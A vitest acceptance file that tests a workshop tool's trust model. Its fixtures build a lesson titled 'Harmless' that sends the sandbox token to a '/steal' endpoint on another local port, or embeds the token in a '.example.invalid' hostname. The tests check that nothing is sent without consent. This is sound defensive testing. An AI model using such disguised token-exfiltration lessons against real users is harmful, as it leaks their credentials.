import { writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeHttpAgent } from '../../src/checks/index.js';
import { LessonRun, type RunEvent } from '../../src/engine/index.js';
import { parseLessonFile, type Lesson } from '../../src/lesson/index.js';
import { Workshop, type WorkshopState } from '../../src/workshop/index.js';
import { repoRoot, runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/temp-dirs.js';

// The acceptance test of the trust model: a lesson from elsewhere whose only content is an HTTP
// check to another port on this machine, carrying the sandbox token, sends nothing without consent.

const CANARY = 'canary-trust-5b8e1f0c2a9d';
const received: IncomingMessage[] = [];
let server: Server;
let url: string;
let dir: string;

beforeAll(async () => {
  server = createServer((request, response) => {
    received.push(request);
    response.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  dir = tempDir('kw-trust-');
});
afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  await closeHttpAgent();
});

/** A lesson file outside the bundled lessons: one step, one check, nothing else. */
function stealLesson(name: string, urlText: string, header: string, front = ''): string {
  const file = join(dir, `${name}.md`);
  writeFileSync(
    file,
    `---\nid: ${name}\ntitle: Harmless\ntargets: [sandbox]\n${front}---\n\n## Look\n\n` +
      '```check\nrequest:\n  method: GET\n' +
      `  url: "${urlText}"\n  headers:\n    Authorization: "Bearer ${header}"\nexpect:\n  status: 200\n\`\`\`\n`,
  );
  return file;
}

const sandboxEnv = (home: string) => ({
  KONG_WORKSHOP_HOME: home,
  KONG_WORKSHOP_SANDBOX_PROXY_PORT: '0',
  KONG_WORKSHOP_SANDBOX_ADMIN_PORT: '0',
  KONG_WORKSHOP_SANDBOX_KUBE_PORT: '0',
});

describe('an untrusted lesson that sends the sandbox token to another host', { timeout: 120_000 }, () => {
  it.each(['run', 'check'])('headless %s sends nothing without --trust and says what it would send', async (mode) => {
    const before = received.length;
    const file = stealLesson(`steal-${mode}`, `${url}/steal`, '{{SANDBOX_TOKEN}}');
    const result = await runCli([mode, file, '--target', 'sandbox'], { env: sandboxEnv(tempDir('kw-home-')) });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`sends GET ${url}/steal with SANDBOX_TOKEN (not the target)`);
    expect(result.stderr).toContain('add --trust');
    expect(received.length - before).toBe(0);
  });

  it('headless never shows a --secret canary while refusing', async () => {
    const before = received.length;
    const file = stealLesson('steal-secret', `${url}/steal`, '{{API_TOKEN}}', 'vars:\n  API_TOKEN: { secret: true }\n');
    const result = await runCli(['run', file, '--target', 'sandbox', '--secret', `API_TOKEN=${CANARY}`], {
      env: sandboxEnv(tempDir('kw-home-')),
    });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('with API_TOKEN');
    expect(`${result.stdout}${result.stderr}`).not.toContain(CANARY);
    expect(received.length - before).toBe(0);
  });

  it('the TUI asks first, listing where the token would go, and a no sends nothing', async () => {
    const before = received.length;
    const file = stealLesson('steal-tui', `${url}/steal`, '{{SANDBOX_TOKEN}}');
    const workshop = await Workshop.create({
      lessonFiles: [file],
      target: 'sandbox',
      settings: { sandbox: 'process', proxyPort: '0', adminPort: '0', kubePort: '0' },
      fixturesDirFor: () => join(repoRoot, 'fixtures'),
    });
    try {
      void workshop.openLesson(file);
      const asked = await until(workshop, (s) => s.dialog?.kind === 'trust');
      expect(asked.dialog?.kind === 'trust' && asked.dialog.plan.requests).toEqual([
        { method: 'GET', url: `${url}/steal`, secrets: ['SANDBOX_TOKEN'] },
      ]);
      expect(received.length - before).toBe(0);
      workshop.answerTrust(false);
      const declined = await until(workshop, (s) => s.dialog === undefined && s.notice !== undefined);
      expect(declined.notice?.text).toBe('“Harmless” was not opened: nothing ran');
      expect(received.length - before).toBe(0);
    } finally {
      await workshop.quit();
    }
  });

  it('at run time, an untrusted check to another host is refused (a value, not a throw); nothing is sent', async () => {
    const before = received.length;
    // The static plan cannot know where {{DEST}} points: the engine decides on the URL as it will be used.
    const file = stealLesson(
      'steal-dynamic',
      '{{DEST}}/steal',
      '{{SANDBOX_TOKEN}}',
      `vars:\n  DEST: { default: "${url}" }\n`,
    );
    const parsed = await parseLessonFile(file);
    const events: RunEvent[] = [];
    const run = new LessonRun({
      lesson: parsed.lesson as Lesson,
      target: {
        name: 'sandbox',
        vars: {
          PROXY: 'http://127.0.0.1:9',
          ADMIN: 'http://127.0.0.1:9',
          SANDBOX_TOKEN: CANARY,
          UPSTREAM: 'http://echo',
        },
        secrets: [CANARY],
        env: {},
        description: 'a sandbox that is not there',
        close: async () => {},
      },
      mode: 'run',
      workdir: tempDir('kw-work-'),
      fixturesDir: dir,
    });
    run.subscribe((event) => events.push(event));
    await run.runAll();
    const finished = events.find((event) => event.type === 'check-finished');
    expect(finished?.type === 'check-finished' && finished.result.fault?.code).toBe('untrusted-request');
    expect(JSON.stringify(events)).not.toContain(CANARY);
    expect(received.length - before).toBe(0);
  });

  it('a refusal never shows a secret that is part of the host it names', async () => {
    const file = stealLesson('steal-host', 'http://{{SANDBOX_TOKEN}}.example.invalid/x', 'x');
    const parsed = await parseLessonFile(file);
    if (!parsed.lesson) throw new Error(JSON.stringify(parsed.diagnostics));
    const events: RunEvent[] = [];
    const run = new LessonRun({
      lesson: parsed.lesson,
      target: {
        name: 'sandbox',
        vars: { PROXY: 'http://127.0.0.1:9', ADMIN: 'http://127.0.0.1:9', SANDBOX_TOKEN: CANARY, UPSTREAM: 'x' },
        secrets: [CANARY],
        env: {},
        description: 'a sandbox that is not there',
        close: async () => {},
      },
      mode: 'run',
      workdir: tempDir('kw-work-'),
      fixturesDir: dir,
    });
    run.subscribe((event) => events.push(event));
    await run.runAll();
    const finished = events.find((event) => event.type === 'check-finished');
    expect(finished?.type === 'check-finished' && finished.result.fault?.message).toMatch(/^not sent to http:\/\//);
    expect(JSON.stringify(events)).not.toContain(CANARY);
  });

  it('with --trust the same check does reach it (the test server really listens)', async () => {
    const before = received.length;
    const file = stealLesson('steal-trusted', `${url}/steal`, 'x');
    const result = await runCli(['run', file, '--target', 'sandbox', '--trust'], {
      env: sandboxEnv(tempDir('kw-home-')),
    });
    expect(result.code).toBe(0);
    expect(received.length - before).toBe(1);
  });
});

function until(subject: Workshop, test: (state: WorkshopState) => boolean): Promise<WorkshopState> {
  if (test(subject.state)) return Promise.resolve(subject.state);
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`timed out; last state ${JSON.stringify(subject.state)}`)), 10_000);
    const stop = subject.subscribe((state) => {
      if (!test(state)) return;
      clearTimeout(timer);
      stop();
      resolve(state);
    });
  });
}
